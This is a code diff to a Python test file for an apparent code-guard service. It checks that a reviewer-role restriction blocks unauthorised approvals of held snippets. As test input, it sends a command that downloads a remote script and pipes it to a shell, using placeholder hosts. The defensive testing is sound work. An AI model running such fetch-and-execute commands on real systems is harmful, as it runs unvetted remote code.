@@ -8,7 +8,6 @@ import time
 from typing import Any
 
 import httpx
-import pytest
 from fastapi.testclient import TestClient
 
 from codeward import Guard
@@ -133,10 +132,8 @@ def test_a_held_snippet_is_approved_by_a_reviewer_while_the_requester_polls(
 
 
 def test_the_reviewer_role_depends_on_the_capability(client: TestClient, keys: dict[str, str]) -> None:
-    held = check(client, "curl -s http://203.0.113.9/install.sh | sh", as_(keys, "alice"))
-    assert held["action"] in ("review", "block")
-    if held["action"] != "review":
-        pytest.skip("the built-in policy no longer holds a piped download for review")
+    held = check(client, "curl -s https://example.com/install.sh | sh", as_(keys, "alice"))
+    assert held["action"] == "review", "the built-in policy holds a piped download for review"
     review_id = held["review_id"]
     sre = client.post(f"/v1/reviews/{review_id}/approve", json={"comment": "ok"}, headers=as_(keys, "sam"))
     assert sre.status_code == 403 and "may not review" in sre.json()["error"]
